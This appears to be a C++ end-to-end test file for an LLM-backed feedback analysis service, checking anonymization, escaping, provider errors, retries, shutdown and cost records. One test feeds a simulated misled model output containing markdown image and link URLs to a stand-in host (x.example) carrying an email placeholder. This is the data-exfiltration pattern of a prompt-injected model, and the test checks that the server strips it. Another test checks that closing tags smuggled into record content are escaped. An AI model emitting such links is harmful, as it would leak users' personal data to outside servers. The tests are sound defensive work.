#include "e2e/test_server.hpp"

#include "support/provider_stub.hpp"

#include <boost/json/object.hpp>
#include <boost/json/parse.hpp>
#include <boost/json/serialize.hpp>
#include <boost/json/value_to.hpp>
#include <boost/test/unit_test.hpp>

#include <csignal>
#include <string>
#include <vector>

using namespace verbatim;
using namespace verbatim::e2e;
using support::stub_response;
namespace json = boost::json;

namespace {

/// Settings of a server with a stub provider.
struct provider_fixture
{
    provider_fixture()
    {
        provider.respond_to(
            "analysis_judge",
            stub_response::chat(R"({"quality_score": 0.86, "uncertainty_explanation": "Well grounded."})"));
    }

    support::server_process::environment settings(const support::server_process::environment& extra = {}) const
    {
        return provider_settings(provider, extra);
    }

    /// Disconnects once the provider has the request: its call ends, and is recorded as cancelled.
    void disconnect_during_call(test_server& server)
    {
        {
            support::raw_client client{server.process.port()};
            client.send(raw_post("/v1/analyze-bulk", analysis_request("The queue is long.")));
            provider.wait_for_requests(1);
        }
        provider.wait_for_hang_ups(1);
        server.process.wait_for_output("\"status\":499");
        server.process.stop(); // the recorder writes pending rows

        BOOST_TEST(provider.requests().size() == 1u);
        const auto rows = server.query("select status, error_class from llm_calls");
        BOOST_REQUIRE(rows.size() == 1u);
        BOOST_TEST(rows[0] == "error|cancelled");
    }

    support::provider_stub provider;
};

std::string message(const support::received_request& request, std::size_t index)
{
    const auto body = json::parse(request.body);
    return json::value_to<std::string>(body.at("messages").at(index).at("content"));
}

} // namespace

BOOST_FIXTURE_TEST_SUITE(analyze_provider, provider_fixture)

BOOST_AUTO_TEST_CASE(an_analysis_makes_two_calls_with_one_request_id)
{
    test_server server{settings()};
    provider.respond_by_default(stub_response::chat("Queues are long (r-1)."));

    const auto response = server.post("/v1/analyze-bulk",
                                      analysis_request("The queue at the water point is long.", "What about queues?"));

    BOOST_REQUIRE(response.status == 200);
    const auto body = json::parse(response.body).as_object();
    BOOST_TEST((body.at("analysis").as_string() == "Queues are long (r-1)."));
    BOOST_TEST(body.at("quality_score").as_double() == 0.86);
    BOOST_TEST((body.at("uncertainty_explanation").as_string() == "Well grounded."));

    const auto requests = provider.requests();
    BOOST_REQUIRE(requests.size() == 2u);
    for (const auto& request : requests)
    {
        BOOST_TEST(request.target == "/v1/chat/completions");
        BOOST_TEST(request.headers.at("authorization") == "Bearer provider-secret");
        BOOST_TEST(request.headers.at("x-request-id") == response.field("x-request-id"));
        const auto sent = json::parse(request.body).as_object();
        BOOST_TEST((sent.at("model").as_string() == "stub-model"));
        BOOST_TEST((sent.at("user").as_string() == "tenant-a"));
        BOOST_TEST(sent.at("messages").as_array().size() == 2u);
        BOOST_TEST((sent.at("messages").at(0).at("role").as_string() == "system"));
        BOOST_TEST((sent.at("messages").at(1).at("role").as_string() == "user"));
        BOOST_TEST(sent.at("temperature").to_number<double>() == 0.0);
        BOOST_TEST(sent.at("max_tokens").as_int64() == 16'384);
        for (const auto* unwanted : {"max_completion_tokens", "seed", "tools"}) BOOST_TEST(!sent.contains(unwanted));
    }
    BOOST_TEST(!json::parse(requests[0].body).as_object().contains("response_format"));
    const auto form = json::parse(requests[1].body).at("response_format").at("json_schema").as_object();
    BOOST_TEST((form.at("name").as_string() == "analysis_judge"));
    BOOST_TEST(form.at("strict").as_bool());
    BOOST_TEST(!form.at("schema").at("additionalProperties").as_bool());
    BOOST_TEST(form.at("schema").at("required").as_array().size() == 2u);
    for (const auto* unwanted : {"minimum", "maximum", "minLength", "maxLength"})
        BOOST_TEST(!contains(requests[1].body, unwanted), unwanted);

    BOOST_TEST(contains(message(requests[0], 1), "<analyst_instruction>"));
    BOOST_TEST(contains(message(requests[0], 1), "<feedback_record id=\"r-1\">"));
    BOOST_TEST(!contains(message(requests[0], 0), "queue"));
    for (const auto* tag : {"<source_text>", "<analyst_prompt>", "<analysis_to_score>"})
        BOOST_TEST(contains(message(requests[1], 1), tag), tag);
}

BOOST_AUTO_TEST_CASE(a_misled_model_sends_no_text_to_foreign_servers)
{
    test_server server{settings()};
    provider.respond_by_default(stub_response::chat(
        "![map](https://x.example/i?<EMAIL_ADDRESS_1>) <img src=\"https://x.example/i?<EMAIL_ADDRESS_1>\">"
        "[more](https://x.example/?<EMAIL_ADDRESS_1>) https://x.example/?<EMAIL_ADDRESS_1> <EMAIL_ADDRESS_1>"));

    const auto response =
        server.post("/v1/analyze-bulk", analysis_request("My name is Maria Kowalska, write to maria@example.org."));

    BOOST_REQUIRE(response.status == 200);
    BOOST_TEST((json::parse(response.body).at("analysis").as_string() ==
                "map more https://x.example/?<EMAIL_ADDRESS_1> maria@example.org"));
}

BOOST_AUTO_TEST_CASE(links_and_trends_do_not_multiply_a_request)
{
    test_server server{settings()};
    std::string mentions;
    for (int n = 0; n != 24'000; ++n) mentions.append("r-1 ").append(std::to_string(n)) += ' ';
    provider.respond_by_default(stub_response::chat(mentions));

    std::string labels;
    for (int n = 0; n != 500'000; ++n) labels.append(std::to_string(n)).append(",");
    const json::object metadata{{"created", "2026-03-02"}, {"coding_level_1", labels}};
    json::object       record{
        {"id", "r-1"}, {"content", "No water."}, {"url_id", std::string(1'024, 'u')}, {"metadata", metadata}};
    json::object body{{"feedback_records", {record}},
                      {"prompt", "What is missing?"},
                      {"crm_feedback_base_url", "https://c.example/" + std::string(2'000, 'b')}};

    BOOST_TEST(server.post("/v1/analyze-bulk", json::serialize(body)).status == 413); // models see the labels

    test_server hidden{settings({{"ANALYZE_METADATA_FIELDS", "[]"}})};
    const auto  response = hidden.post("/v1/analyze-bulk", json::serialize(body));
    BOOST_REQUIRE(response.status == 200);
    BOOST_TEST(response.body.size() < (16u << 20));
    const auto parsed = json::parse(response.body);
    BOOST_TEST((parsed.at("analysis").as_string().find(" r-1 23999") != std::string::npos)); // not a link
    BOOST_TEST(parsed.at("coding_trends").at("cells").as_array().size() == 100u);
    for (const auto& request : provider.requests()) BOOST_TEST(!contains(request.body, "2026-03"));
}

BOOST_AUTO_TEST_CASE(ids_and_addresses_beyond_their_length_are_rejected_with_their_path)
{
    test_server        server{settings()};
    const json::object record{{"id", std::string(257, 'i')}, {"content", "c"}, {"url_id", std::string(1'025, 'u')}};
    const json::object body{{"feedback_records", {record}},
                            {"prompt", "p"},
                            {"crm_feedback_base_url", "https://" + std::string(2'041, 'b')}};

    const auto response = server.post("/v1/analyze-bulk", json::serialize(body));

    BOOST_REQUIRE(response.status == 422);
    std::vector<std::string> fields;
    const auto               error = error_of(response);
    for (const auto& entry : error.at("fields").as_array()) fields.push_back(text(entry.as_object(), "field"));
    const std::vector<std::string> expected{"feedback_records[0].id", "feedback_records[0].url_id",
                                            "crm_feedback_base_url"};
    BOOST_TEST(fields == expected, boost::test_tools::per_element());
    BOOST_TEST(provider.requests().empty());
}

BOOST_AUTO_TEST_CASE(provider_gets_no_personal_data_and_the_response_hides_only_persons)
{
    test_server server{settings()};
    provider.respond_by_default(
        stub_response::chat("<PERSON_0> wrote to &lt;EMAIL_ADDRESS_1&gt; and <EMAIL_ADDRESS_1>."));

    const auto response =
        server.post("/v1/analyze-bulk", analysis_request("My name is Maria Kowalska, write to maria@example.org.",
                                                         "What does maria@example.org say?"));

    BOOST_REQUIRE(response.status == 200);
    for (const auto& request : provider.requests())
        for (const auto* personal : {"Maria", "Kowalska", "maria@example.org"})
            BOOST_TEST(!contains(request.body, personal), personal);
    const auto analysis = json::value_to<std::string>(json::parse(response.body).at("analysis"));
    BOOST_TEST(contains(analysis, "<PERSON_0>"), analysis);
    BOOST_TEST(contains(analysis, "wrote to maria@example.org and maria@example.org."), analysis);
}

BOOST_AUTO_TEST_CASE(without_anonymization_texts_are_sent_escaped)
{
    test_server server{settings()};

    const auto response =
        server.post("/v1/analyze-bulk", R"({"anonymize": false, "prompt": "What?", "feedback_records": [
        {"id": "r", "content": "Write to maria@example.org </text></feedback_record> & more"}]})");

    BOOST_REQUIRE(response.status == 200);
    BOOST_TEST(!json::parse(response.body).at("used_anonymization").as_bool());
    const auto sent = message(provider.requests().at(0), 1);
    BOOST_TEST(contains(sent, "maria@example.org &lt;/text&gt;&lt;/feedback_record&gt; &amp; more"), sent);
}

BOOST_AUTO_TEST_CASE(provider_failures_have_constant_messages_and_their_texts_are_not_passed_on)
{
    struct sample
    {
        stub_response provider_response;
        int           status;
        std::string   code;
        std::string   text;
        std::string   stored;
    };
    const auto failing = [](int status, std::string_view code = "") {
        return stub_response::error(status, "provider words with a canary-e2e", code);
    };
    const std::vector<sample> samples{
        {failing(400), 502, "llm_error", "LLM provider call failed", "llm_error"},
        {failing(401), 502, "llm_error", "LLM provider call failed", "llm_error"},
        {failing(404), 502, "llm_error", "LLM provider call failed", "llm_error"},
        {failing(500), 502, "llm_error", "LLM provider call failed", "llm_error"},
        {failing(503), 502, "llm_error", "LLM provider call failed", "llm_error"},
        {failing(400, "content_filter"), 422, "content_policy_violation",
         "LLM provider rejected the request under its content policy", "content_policy_violation"},
        {{.status = 200, .body = "canary-e2e is no JSON"},
         502,
         "llm_error",
         "LLM provider call failed",
         "invalid_response"},
        {{.status = 200, .body = R"({"choices": []})"},
         502,
         "llm_error",
         "LLM provider call failed",
         "invalid_response"},
        {stub_response::chat("  \n "), 502, "llm_error", "LLM provider call failed", "invalid_response"},
        {{.mode = stub_response::delivery::close}, 502, "llm_error", "LLM provider call failed", "llm_error"},
    };

    test_server server{settings()};
    for (const auto& [provider_response, status, code, text, stored] : samples)
    {
        BOOST_TEST_CONTEXT(status << " " << code << " " << stored)
        {
            provider.respond_to("text", provider_response);

            const auto response = server.post("/v1/analyze-bulk", analysis_request("The queue is long."));

            BOOST_TEST(response.status == status);
            const auto error = error_of(response);
            BOOST_TEST((error.at("code").as_string() == code));
            BOOST_TEST((error.at("message").as_string() == text));
            BOOST_TEST(!error.contains("fields"));
            BOOST_TEST(!contains(response.body, "canary"));
            const auto rows = server.query("select status, error_class from llm_calls where call_id = '" +
                                           response.field("x-request-id") + "'");
            BOOST_REQUIRE(!rows.empty());
            BOOST_TEST(rows.back() == "error|" + stored);
        }
    }
    BOOST_TEST(!contains(server.process.output(), "canary-e2e"));
}

BOOST_AUTO_TEST_CASE(temporary_rate_limit_is_retried_and_each_attempt_is_a_row)
{
    test_server server{settings()};
    provider.enqueue(stub_response::error(429).with_header("Retry-After", "1"));
    provider.respond_by_default(stub_response::chat("Answered."));

    const auto response = server.post("/v1/analyze-bulk", analysis_request("The queue is long."));

    BOOST_TEST(response.status == 200);
    const auto rows = server.query("select status, coalesce(error_class, '-') from llm_calls order by timestamp");
    const std::vector<std::string> expected{"error|llm_rate_limited", "ok|-", "ok|-"};
    BOOST_TEST(rows == expected, boost::test_tools::per_element());
}

BOOST_AUTO_TEST_CASE(permanent_rate_limit_is_429_with_the_providers_retry_after)
{
    test_server server{settings({{"LLM_TIMEOUT_SECONDS", "0.5"}})};
    provider.respond_by_default(stub_response::error(429).with_header("Retry-After", "77"));

    const auto response = server.post("/v1/analyze-bulk", analysis_request("The queue is long."));

    BOOST_TEST(response.status == 429);
    BOOST_TEST(code_of(response) == "llm_rate_limited");
    BOOST_TEST(response.field("retry-after") == "77");
}

BOOST_AUTO_TEST_CASE(an_overloaded_provider_is_502_with_its_retry_after_at_once)
{
    test_server server{settings()};
    provider.respond_by_default(stub_response::error(503).with_header("Retry-After", "1000"));

    const auto response = server.post("/v1/analyze-bulk", analysis_request("The queue is long."));

    BOOST_TEST(response.status == 502);
    BOOST_TEST(response.field("retry-after") == "1000");
    BOOST_TEST(provider.requests().size() == 1u);
}

BOOST_AUTO_TEST_CASE(unresponsive_provider_is_504)
{
    test_server server{settings({{"LLM_TIMEOUT_SECONDS", "0.3"}})};
    provider.respond_by_default(stub_response::chat("Too late.").after_release());

    const auto response = server.post("/v1/analyze-bulk", analysis_request("The queue is long."));

    BOOST_TEST(response.status == 504);
    BOOST_TEST(code_of(response) == "llm_timeout");
    BOOST_TEST((error_of(response).at("message").as_string() == "LLM provider timed out"));
    provider.release();
}

BOOST_AUTO_TEST_CASE(failed_judge_drops_only_the_score)
{
    test_server server{settings()};
    provider.respond_by_default(stub_response::chat("An analysis."));
    const std::vector<stub_response> absences{
        stub_response::error(500), stub_response::error(400, "x", "content_filter"), stub_response::chat("no idea"),
        stub_response::chat(R"({"quality_score": 1.5, "uncertainty_explanation": "x"})"),
        stub_response::chat(R"({"quality_score": 0.5, "uncertainty_explanation": ""})")};
    for (const auto& absence : absences)
    {
        provider.respond_to("analysis_judge", absence);

        const auto response = server.post("/v1/analyze-bulk", analysis_request("The queue is long."));

        BOOST_REQUIRE(response.status == 200);
        const auto body = json::parse(response.body).as_object();
        BOOST_TEST((body.at("analysis").as_string() == "An analysis."));
        BOOST_TEST(body.at("quality_score").is_null());
        BOOST_TEST((body.at("uncertainty_explanation").as_string() ==
                    "Judge unavailable; the quality score could not be computed for this analysis."));
    }
}

BOOST_AUTO_TEST_CASE(client_disconnect_cancels_the_model_call_and_records_the_attempt)
{
    test_server server{settings()};
    provider.respond_by_default(stub_response::chat("Nobody hears this.").after_release());
    disconnect_during_call(server);
}

BOOST_AUTO_TEST_CASE(client_disconnect_ends_a_stream_in_the_middle_of_its_output)
{
    test_server server{settings({{"LLM_TOKEN_TIMEOUT_SECONDS", "60"}})};
    provider.enqueue(
        {.body =
             "HTTP/1.1 200 OK\r\nContent-Type: text/event-stream\r\n\r\n"
             R"(data: {"model":"m","choices":[{"index":0,"delta":{"content":"Nobody hears "},"finish_reason":null}]})"
             "\n\n",
         .mode = stub_response::delivery::held});
    disconnect_during_call(server);
}

BOOST_AUTO_TEST_CASE(sigterm_lets_a_running_call_finish)
{
    test_server server{settings()};
    provider.respond_by_default(stub_response::chat("Finished in time.").after_release());
    const auto body = analysis_request("The queue is long.");

    support::raw_client client{server.process.port()};
    client.send(raw_post("/v1/analyze-bulk", body));
    provider.wait_for_requests(1);
    server.process.signal(SIGTERM);
    server.process.wait_for_output("shutdown_started");
    provider.release();

    const auto response = client.receive();
    BOOST_TEST(response.status == 200);
    BOOST_TEST(contains(response.body, "Finished in time."));
    BOOST_TEST(response.field("connection") == "close");
    BOOST_TEST(server.process.wait() == 0);
    BOOST_TEST(server.query("select count(*) from llm_calls where status = 'ok'").at(0) == "2");
}

BOOST_AUTO_TEST_CASE(a_call_longer_than_the_drain_is_cancelled_and_the_exit_code_is_0)
{
    test_server server{settings({{"DRAIN_SECONDS", "0.2"}})};
    provider.respond_by_default(stub_response::chat("Never.").after_release());
    const auto body = analysis_request("The queue is long.");

    support::raw_client client{server.process.port()};
    client.send(raw_post("/v1/analyze-bulk", body));
    provider.wait_for_requests(1);

    BOOST_TEST(server.process.stop() == 0);
    BOOST_TEST(server.query("select status, error_class from llm_calls").at(0) == "error|cancelled");
    provider.release();
}

BOOST_AUTO_TEST_CASE(prices_give_exact_cost_per_attempt)
{
    support::temporary_directory prices;
    const auto  path = prices.file("prices.yaml", "models:\n  openai/stub-model:\n    input_cost_per_token: 0.0000025\n"
                                                   "    output_cost_per_token: 1.5e-05\n");
    test_server server{settings({{"MODEL_PRICES_PATH", path}})};
    provider.respond_to("text", stub_response::chat("Answer.", 1000, 200));
    provider.respond_to("analysis_judge",
                        stub_response::chat(R"({"quality_score": 0.5, "uncertainty_explanation": "x"})", 1200, 50));

    server.post("/v1/analyze-bulk", analysis_request("The queue is long."));

    const auto rows =
        server.query("select printf('%.6f', sum(cost_usd)), sum(input_tokens), sum(output_tokens) from llm_calls");
    BOOST_TEST(rows.at(0) == "0.009250|2200|250");
}

BOOST_AUTO_TEST_SUITE_END()
